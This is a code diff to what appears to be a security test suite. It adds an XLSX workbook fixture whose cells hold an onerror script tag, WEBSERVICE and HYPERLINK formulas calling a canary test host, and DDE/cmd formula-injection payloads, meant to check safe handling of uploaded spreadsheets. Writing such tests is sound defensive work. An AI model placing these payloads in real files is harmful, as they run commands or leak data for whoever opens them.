@@ -1,3 +1,4 @@
+import { xlsxOf } from '../../../support/spreadsheetPackage.ts';
 import type { Payload } from '../payload.ts';
 import { act, writtenInPage } from './shownMarkup.ts';
 
@@ -9,7 +10,7 @@ const file = (
 	id: string,
 	channel: string,
 	name: string,
-	text: string,
+	content: string | (() => Promise<Uint8Array>),
 	table = id.replaceAll('-', '_')
 ): Payload => ({
 	id,
@@ -17,10 +18,31 @@ const file = (
 	realm: 'extract',
 	cells: () => `\`\`\`sql ${id.replaceAll('-', '_')}_shown\nSELECT * FROM ${table}\n\`\`\`\n`,
 	control: writtenInPage((at) => `<img src=data:x onerror="${act(at)}">`),
-	extract: { name, bytes: () => Promise.resolve(new TextEncoder().encode(text)) }
+	extract: {
+		name,
+		bytes: typeof content === 'string' ? () => Promise.resolve(new TextEncoder().encode(content)) : content
+	}
 });
 
 const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
+
+const inXml = (text: string) => text.replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`);
+
+/** Cells of a workbook: texts, or formulas with the value that was last seen of them. */
+const words = (at: string, text: string) => `<c r="${at}" t="inlineStr"><is><t>${inXml(text)}</t></is></c>`;
+const formula = (at: string, code: string, seen: string) =>
+	`<c r="${at}" t="str"><f>${inXml(code)}</f><v>${inXml(seen)}</v></c>`;
+
+/** Markup and formulas in headers and cells. */
+async function workbook(): Promise<Uint8Array> {
+	const hostile = image('ex-xlsx');
+	const Ark1 = [
+		`<row r="1">${words('A1', 'nr')}${words('B1', hostile)}${formula('C1', 'WEBSERVICE("http://ex-xlsx.kanarie.test/")', '__proto__')}</row>`,
+		`<row r="2"><c r="A2"><v>1</v></c>${words('B2', hostile)}${formula('C2', 'HYPERLINK("http://ex-xlsx.kanarie.test/"&A2)', hostile)}</row>`,
+		`<row r="3"><c r="A3"><v>2</v></c>${words('B3', '=cmd|"/c calc"!A1')}${formula('C3', 'DDE("cmd","/c calc")', 'javascript:__executed=1')}</row>`
+	].join('');
+	return new Uint8Array(await (await xlsxOf({ sheets: { Ark1 } })).arrayBuffer());
+}
 
 /** What files hold, and what they are called. */
 export const extract: readonly Payload[] = [
@@ -41,6 +63,7 @@ export const extract: readonly Payload[] = [
 			.map((row) => row.map(quoted).join(';'))
 			.join('\r\n')
 	),
+	file('ex-xlsx', 'XLSX', 'ex_xlsx.xlsx', workbook),
 	file(
 		'ex-name',
 		'file name',
